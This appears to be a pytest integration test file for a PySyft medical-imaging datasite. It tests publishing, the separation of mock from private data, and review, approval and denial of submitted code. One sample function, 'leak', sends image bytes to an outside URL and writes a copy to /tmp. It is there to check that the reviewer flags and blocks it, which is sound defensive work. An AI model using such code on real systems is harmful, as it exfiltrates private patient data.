"""The data owner's whole workflow against a real datasite process on 127.0.0.1.

deploy -> publish (every format) -> a scientist sees datasets and mocks but not private data
-> submits code -> the request shows with review flags -> approve -> the scientist runs it;
deny -> the scientist cannot. Nothing is mocked.
"""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from support import (
    PNEUMONIA_NPZ,
    Scientist,
    login,
    owner_images,
    run_cli,
    submit_code,
    write_dicom_folder,
    write_medmnist_npz,
    write_png_folder,
)

from domains.site.connection import quiet

pytestmark = pytest.mark.slow


def dataset_names(site: Any) -> set[str]:
    from domains.site.connection import admin_client, quiet

    with quiet():
        return {d.name for d in admin_client(site.data_dir).datasets}


def test_deploy_replaces_default_admin(site: Any) -> None:
    with pytest.raises(Exception):  # noqa: B017 - PySyft raises its own SyftException
        login(site.url, "info@openmined.org", "changethis")
    creds_file = site.data_dir.file("credentials.json")
    assert stat.S_IMODE(creds_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(site.data_dir.file("server.key").stat().st_mode) == 0o600
    creds = json.loads(creds_file.read_text())
    assert login(site.url, creds["email"], creds["password"]) is not None


def test_deploy_binds_loopback_only(site: Any) -> None:
    assert site.config.host == "127.0.0.1"
    assert site.url.startswith("http://127.0.0.1:")


def test_datasite_process_runs_pysyft_speedups(site: Any) -> None:
    """The deployed process, not just this test process, swapped in domains/site/syft_speedups.py."""
    log = site.data_dir.file("datasite.log").read_text()
    assert "medsyft: PySyft speed-ups: numpy print threshold, ObjectStash.get_role" in log


def test_publish_synthetic_default_via_cli(site: Any) -> None:
    result = run_cli("domain", "publish", "--data-dir", str(site.data_dir.path),
                     "--count", "300", "--shard", "1/3", "--partition", "dirichlet:0.5")
    assert result.code == 0, result.err
    assert "SYNTHETIC" in result.out
    assert "synthetic-chest-phantom-shard1of3" in dataset_names(site)


def test_publish_each_format(site: Any, tmp_path: Path) -> None:
    npz = write_medmnist_npz(tmp_path / "pneumoniamnist.npz")
    chest = write_medmnist_npz(tmp_path / "chestmnist.npz", multi_label=14)
    folder = write_png_folder(tmp_path / "png", {"normal": [(40, 40)] * 3, "pneumonia": [(48, 48)] * 3})
    dicom = write_dicom_folder(tmp_path / "dcm", ["normal", "pneumonia", "normal", "pneumonia"])
    cases = [
        (["--source", str(npz), "--split", "val"], "pneumoniamnist-val", 40),
        (["--source", str(chest), "--name", "chest-multilabel"], "chest-multilabel", 40),
        (["--source", str(folder), "--format", "folder", "--name", "png-xrays"], "png-xrays", 6),
        (["--source", str(dicom), "--format", "dicom", "--name", "dicom-cr"], "dicom-cr", 4),
    ]
    for args, name, n in cases:
        result = run_cli("domain", "publish", "--data-dir", str(site.data_dir.path), *args)
        assert result.code == 0, result.err
        assert f"'{name}': {n} images" in result.out
    assert {c[1] for c in cases} <= dataset_names(site)
    report = site.status()
    table = report.datasets.set_index("dataset")
    assert table.loc["png-xrays", "shape"] == "1x40x40"  # mixed 40/48 px brought to one size
    assert table.loc["chest-multilabel", "images"] == 40


@pytest.mark.skipif(not PNEUMONIA_NPZ.exists(), reason="PneumoniaMNIST copy not beside the checkout")
def test_publish_pneumoniamnist_shard(site: Any) -> None:
    result = run_cli("domain", "publish", "--data-dir", str(site.data_dir.path),
                     "--source", str(PNEUMONIA_NPZ), "--shard", "2/3", "--partition", "iid")
    assert result.code == 0, result.err
    assert "pneumonia" in result.out and "normal" in result.out


def test_scientist_sees_mock_but_not_private(site: Any, scientist: Scientist) -> None:
    site.publish(name="visible", synthetic_count=50)
    with quiet():
        dataset = scientist.client.datasets["visible"]
        images = dataset.assets["images"]
        mock = np.asarray(images.mock)
        private = images.data
        with pytest.raises(Exception, match="not found"):  # nor through the raw action API
            scientist.client.api.services.action.get(uid=images.action_id)
    assert mock.shape == (50, 1, 28, 28) and mock.dtype == np.uint8
    assert private is None  # PySyft answers "You have no access to the private data"
    owner_view = owner_images(site, "visible")
    assert not any(np.array_equal(m, p) for m in mock[:10] for p in owner_view)


BENIGN = '''
@sy.syft_function_single_use(images=asset)
def mean_intensity(images):
    import numpy as np
    return float(np.asarray(images).mean())
'''

SUSPICIOUS = '''
@sy.syft_function_single_use(images=asset)
def leak(images):
    import urllib.request
    urllib.request.urlopen("http://example.org", data=bytes(images[0]))
    open("/tmp/copy.bin", "wb").write(bytes(images))
    return images[:5]
'''


def test_request_review_approve_run(site: Any, scientist: Scientist, tmp_path: Path) -> None:
    site.publish(name="trainset", synthetic_count=60)
    req = submit_code(scientist.client, BENIGN, dataset="trainset", function="mean_intensity",
                      tmp=tmp_path)
    rid = str(req.id)
    table = run_cli("domain", "requests", "--data-dir", str(site.data_dir.path))
    assert table.code == 0 and rid in table.out and "pending" in table.out
    review = run_cli("domain", "review", rid[:8], "--data-dir", str(site.data_dir.path))
    assert review.code == 0, review.err
    assert "trainset/images" in review.out and "mean_intensity" in review.out
    assert "executions allowed: 1" in review.out
    assert "CUSTOM CODE" in review.out  # not medsyft's template: the site policy says so
    data_dir = str(site.data_dir.path)
    assert run_cli("domain", "policy", "--data-dir", data_dir, "--allow-custom-code", "on").code == 0
    try:
        approve = run_cli("domain", "approve", rid[:8], "--data-dir", data_dir, "--allow-custom-code")
        assert approve.code == 0, approve.err
        with quiet():
            asset = scientist.client.datasets["trainset"].assets["images"]
            value = scientist.client.code.mean_intensity(images=asset).get()
    finally:
        run_cli("domain", "policy", "--data-dir", data_dir, "--allow-custom-code", "off")
    assert value == pytest.approx(float(owner_images(site, "trainset").mean()))
    row = site.requests().set_index("id").loc[rid]
    assert (row["status"], row["executions allowed"], row["executions used"]) == ("approved", 1, 1)
    audit = site.audit()
    assert {"publish", "account-created", "approve", "execution"} <= set(audit["event"])
    executions = audit[audit["event"] == "execution"]
    assert (executions["actor"] == scientist.email).all() and rid in set(executions["subject"])


def test_review_flags_risky_code_and_deny_blocks(
    site: Any, scientist: Scientist, tmp_path: Path
) -> None:
    site.publish(name="denyset", synthetic_count=20)
    req = submit_code(scientist.client, SUSPICIOUS, dataset="denyset", function="leak", tmp=tmp_path)
    rid = str(req.id)
    review = site.review(rid)
    rules = {f.rule for f in review.flags}
    assert {"network", "file-write", "raw-asset-return"} <= rules
    deny = run_cli("domain", "deny", rid, "--data-dir", str(site.data_dir.path),
                   "--reason", "sends images to the internet")
    assert deny.code == 0, deny.err
    with quiet():
        asset = scientist.client.datasets["denyset"].assets["images"]
        with pytest.raises(Exception, match="DENIED") as refused:
            scientist.client.code.leak(images=asset)
    assert "sends images to the internet" in str(refused.value)  # the owner's reason reaches them
    assert "deny" in set(site.audit()["event"])


def test_status_and_audit_cli(site: Any, tmp_path: Path) -> None:
    status = run_cli("domain", "status", "--data-dir", str(site.data_dir.path))
    assert status.code == 0 and "pending requests:" in status.out and "ana@uni.example" in status.out
    out_csv = tmp_path / "audit.csv"
    audit = run_cli("domain", "audit", "--data-dir", str(site.data_dir.path), "--csv", str(out_csv))
    assert audit.code == 0, audit.err
    header = out_csv.read_text().splitlines()[0]
    assert header == "time,event,actor,subject,details"


def test_signup_is_disabled(site: Any) -> None:
    from domains.site.connection import quiet

    with quiet():
        import syft as sy

        guest = sy.login_as_guest(url=site.url)
        try:
            outcome: Any = guest.register(name="x", email="eve@evil.example",
                                          password="password123", password_verify="password123")
        except Exception as exc:
            outcome = exc
    assert "no permission to create an account" in str(outcome).lower(), outcome
    with pytest.raises(Exception):  # noqa: B017 - PySyft raises its own SyftException
        login(site.url, "eve@evil.example", "password123")


def test_add_scientist_password_file_and_refusals(site: Any, tmp_path: Path) -> None:
    secret = tmp_path / "pw.txt"
    secret.write_text("correct horse battery staple\n")
    args = ["domain", "add-scientist", "--data-dir", str(site.data_dir.path)]
    created = run_cli(*args, "--email", "li@uni.example", "--password-file", str(secret))
    assert created.code == 0, created.err
    assert "correct horse" not in created.out  # a password from a file is never echoed
    assert login(site.url, "li@uni.example", "correct horse battery staple") is not None
    again = run_cli(*args, "--email", "li@uni.example")
    assert again.code == 2 and "already exists" in again.err
    bad = run_cli(*args, "--email", "not-an-email")
    assert bad.code == 2 and "not an email" in bad.err
    short = tmp_path / "short.txt"
    short.write_text("abc\n")
    weak = run_cli(*args, "--email", "mo@uni.example", "--password-file", str(short))
    assert weak.code == 2 and "short.txt" in weak.err
